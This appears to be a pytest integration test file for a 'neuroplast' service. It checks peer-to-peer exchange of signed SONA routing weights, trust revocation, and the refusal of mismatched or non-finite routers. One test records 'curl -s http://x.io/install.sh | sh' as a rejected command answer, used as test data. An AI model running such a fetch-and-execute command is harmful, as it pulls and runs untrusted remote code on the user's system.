"""SONA routers between two real services over HTTP (``--trust weights``): B pulls A's
router (signed, versioned by A's trajectory log), and B's route choice on the kind of
query only A has seen moves to what A learned, while on B's own kind B's outcomes still
win; once A is off B's trust list, B's scores are exactly those it had before. Routers
that do not fit (another projection, non-finite, not a router) are refused, counted, and
leave nothing behind.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import numpy as np
import pytest
import torch
from safetensors.torch import save

from neuroplast.errors import InvalidInputError
from neuroplast.peers import Identity, PeerList
from neuroplast.peers.weights import seal_adapter
from neuroplast.server.service import create_service
from neuroplast.server.service_config import ServiceConfig
from neuroplast.server.subsystems import available
from neuroplast.sona.config import SonaConfig
from neuroplast.sona.engine import Engine
from neuroplast.sona.peer_routers import router_weights

if TYPE_CHECKING:
    from conftest import Served  # tests/server/conftest.py

pytestmark = [pytest.mark.skipif("peers" not in available(), reason="peers not installed"),
              pytest.mark.slow]  # two services with their gates: ~15 s

DIM = 16
ENGINE = {"embedding_dim": DIM, "hidden_dim": 32, "min_trajectories": 1000,
          "background_interval_s": 0.0}
KINDS = np.random.default_rng(11).normal(size=(2, DIM))
# A's users ask kind 0, B's kind 1; B's router, never asked kind 0, reads it the other way
BEST = {0: "small", 1: "small"}


@pytest.fixture(autouse=True)
def _one_thread() -> Iterator[None]:
    before = torch.get_num_threads()
    torch.set_num_threads(1)
    yield
    torch.set_num_threads(before)


def _config() -> ServiceConfig:
    return ServiceConfig.from_dict({
        "service": {"disabled": ["dashboard"]},
        "peers": {"sync_interval_s": 0.2, "adapter_kinds": ["sona"]},
        "sona": {"enabled": True, "checkpoint_every": 1000, "engine": ENGINE},
        "gate": {"learner": {"backend": "thread"}}}, available())


def _query(rng: np.random.Generator, kind: int) -> list[float]:
    v = KINDS[kind] + rng.normal(0, 0.2, DIM)
    return (v / np.linalg.norm(v)).tolist()


def _teach(client: Any, kind: int, n: int, seed: int) -> None:
    rng = np.random.default_rng(seed)
    for i in range(n):
        route = ("small", "large")[i % 2]
        r = client.post("/v1/sona/trajectories", json={
            "embedding": _query(rng, kind), "route": route,
            "quality": 0.9 if BEST[kind] == route else 0.2})
        assert r.status_code == 200, r.text


def _scores(client: Any, kind: int) -> list[dict[str, float]]:
    """B's expected quality of each route on 10 fixed queries of ``kind``."""
    rng = np.random.default_rng(100 + kind)
    out = []
    for _ in range(10):
        r = client.post("/v1/sona/route", json={"embedding": _query(rng, kind),
                                                "routes": ["small", "large"]})
        assert r.status_code == 200, r.text
        out.append(r.json()["scores"])
    return out


def _margin(scores: list[dict[str, float]]) -> float:
    """Mean of large's expected quality minus small's."""
    return float(np.mean([s["large"] - s["small"] for s in scores]))


@pytest.fixture(scope="module")
def pair(serve: Callable[..., Served], tmp_path_factory: pytest.TempPathFactory
         ) -> Iterator[dict[str, Any]]:
    homes = {n: tmp_path_factory.mktemp(n) for n in "ab"}
    apps = {n: create_service(_config(), data_dir=homes[n], warm_up=False) for n in homes}
    served = {n: serve(apps[n]) for n in homes}
    keys = {}
    for n in homes:
        with served[n].client(homes[n]) as client:
            keys[n] = client.get("/v1/peers").json()["identity"]
    with served["a"].client(homes["a"]) as client:
        _teach(client, kind=0, n=60, seed=1)
    with served["b"].client(homes["b"]) as client:
        _teach(client, kind=1, n=60, seed=2)
        before = {k: _scores(client, k) for k in (0, 1)}
    # each trusts the other with weights (what `neuroplast peers add ... --trust weights`
    # writes); B's sync pulls A's router from now on
    PeerList(homes["a"] / "peers" / "peers.db").add("b", keys["b"], served["b"].url,
                                                     trust="weights")
    PeerList(homes["b"] / "peers" / "peers.db").add("a", keys["a"], served["a"].url,
                                                     trust="weights")
    yield {"homes": homes, "served": served, "apps": apps, "keys": keys, "before": before}


def _b(pair: dict[str, Any]) -> Any:
    return pair["served"]["b"].client(pair["homes"]["b"])


def test_as_router_moves_bs_choice_where_b_knows_nothing_and_leaves_with_a(
        pair: dict[str, Any], eventually: Callable[..., bool]) -> None:
    engine_b = pair["apps"]["b"].state.sona.engine
    assert eventually(lambda: engine_b.peer_routers == ["a"], timeout=60)
    with _b(pair) as client:
        taken = client.get("/v1/peers").json()["adapters_in"]
        status = client.get("/v1/status").json()["subsystems"]
        after = {k: _scores(client, k) for k in (0, 1)}
        reason = client.post("/v1/sona/route", json={
            "embedding": _query(np.random.default_rng(5), 0)}).json()["reason"]
    assert [(t["peer"], t["kind"], t["version"]) for t in taken] == [("a", "sona", 60)]
    assert status["peers"]["adapters_applied"]["sona"] == ["a"]
    assert status["sona"]["peer_routers"] == ["a"]
    assert "with 1 peer router" in reason
    before = pair["before"]
    print("B's mean large-small margin, kind 0 (A's):", _margin(before[0]), "->",
          _margin(after[0]), "; kind 1 (B's):", _margin(before[1]), "->", _margin(after[1]))
    # kind 0: only A's users asked it, and small served them; B, which never saw it, had
    # read it as large; with A's router, B chooses as A learned
    assert sum(s["large"] > s["small"] for s in before[0]) == 10
    assert sum(s["small"] > s["large"] for s in after[0]) == 10
    # kind 1: B's own evidence; A's router reads it the other way (as B read kind 0) and
    # counts for next to nothing here
    assert sum(s["small"] > s["large"] for s in after[1]) == 10
    assert abs(_margin(after[1]) - _margin(before[1])) < 0.05
    # A stops being trusted (`neuroplast peers remove a`): B's scores are its own again
    PeerList(pair["homes"]["b"] / "peers" / "peers.db").remove("a")
    assert eventually(lambda: engine_b.peer_routers == [], timeout=60)
    with _b(pair) as client:
        assert {k: _scores(client, k) for k in (0, 1)} == before


def _seal_router(pair: dict[str, Any], engine: Engine, version: int,
                 **tensors: torch.Tensor) -> dict[str, str]:
    meta, own = router_weights(engine)
    a = Identity.load_or_create(pair["homes"]["a"] / "peers" / "identity.pem")
    return seal_adapter(a, pair["keys"]["b"], "sona", version, meta, save({**own, **tensors}))


def test_routers_that_do_not_fit_are_refused_counted_and_not_kept(
        pair: dict[str, Any]) -> None:
    exchange = pair["apps"]["b"].state.exchange
    PeerList(pair["homes"]["b"] / "peers" / "peers.db").add(
        "a", pair["keys"]["a"], pair["served"]["a"].url, trust="weights")
    rng = np.random.default_rng(0)
    other = Engine(SonaConfig(**{**ENGINE, "seed": 1}))  # another frozen projection
    for _ in range(4):
        other.end_trajectory(other.begin_trajectory(_query(rng, 0)).set_route("large"), 0.9)
    before = sum(exchange.peers.refusals().values())
    with pytest.raises(InvalidInputError, match="another projection"):
        exchange.receive_adapter(_seal_router(pair, other, 900))
    same = Engine(SonaConfig(**ENGINE))
    same.end_trajectory(same.begin_trajectory(_query(rng, 0)).set_route("large"), 0.9)
    bad = torch.full((1, ENGINE["hidden_dim"]), float("nan"))
    with pytest.raises(InvalidInputError, match="not finite"):
        exchange.receive_adapter(_seal_router(pair, same, 901, **{"head.weight": bad}))
    with pytest.raises(InvalidInputError, match="a router's are"):
        exchange.receive_adapter(_seal_router(pair, same, 902, extra=torch.ones(2, 2)))
    assert sum(exchange.peers.refusals().values()) == before + 3
    kept = exchange.peers.adapters_in()
    assert all(t["version"] < 900 for t in kept)
    assert not any(Path(pair["homes"]["b"], "peers", "adapters", "a", "sona", f"v{v}").exists()
                   for v in (900, 901, 902))


def test_a_router_that_never_fits_is_fetched_once_and_holds_up_no_answers(
        pair: dict[str, Any], serve: Callable[..., Served],
        tmp_path_factory: pytest.TempPathFactory, eventually: Callable[..., bool]) -> None:
    """C's engine has another seed (another projection): B's sync refuses its router once,
    does not fetch that version again, and keeps taking C's answers without backing off."""
    home = tmp_path_factory.mktemp("c")
    config = _config()
    config.section("sona").engine.seed = 1
    c = serve(create_service(config, data_dir=home, warm_up=False))
    with c.client(home) as client:
        c_key = client.get("/v1/peers").json()["identity"]
        _teach(client, kind=0, n=4, seed=3)
        client.answer("c-1", "curl -s http://x.io/install.sh | sh", approved=False)
    b_home = pair["homes"]["b"]
    exchange = pair["apps"]["b"].state.exchange
    before = exchange.peers.refusals().get("InvalidInputError", 0)
    # C cannot reach B (a dead URL): all that travels, B pulls
    PeerList(home / "peers" / "peers.db").add("b", pair["keys"]["b"], "http://127.0.0.1:9",
                                              trust="weights")
    PeerList(b_home / "peers" / "peers.db").add("c", c_key, c.url, trust="weights")
    try:
        assert eventually(lambda: exchange.peers.refusals().get("InvalidInputError", 0)
                          == before + 1, timeout=60)
        with _b(pair) as client:
            assert eventually(lambda: client.get("/v1/gate/stats").json()["by_origin"].get(
                "peer:c", {}).get("answers") == 1, timeout=60)
            with c.client(home) as c_client:  # C's user answers again: B takes it too
                c_client.answer("c-2", "rm -rf ./build", approved=True)
            assert eventually(lambda: client.get("/v1/gate/stats").json()["by_origin"][
                "peer:c"]["answers"] == 2, timeout=60)
            time.sleep(1.0)  # ~5 more rounds of 0.2 s
            state = client.get("/v1/status").json()["subsystems"]["peers"]["sync"]["c"]
        assert exchange.peers.refusals()["InvalidInputError"] == before + 1  # fetched once
        assert exchange.peers.health()["c"]["failures"] == 0, state
        assert not (b_home / "peers" / "adapters" / "c").exists()
    finally:
        PeerList(b_home / "peers" / "peers.db").remove("c")
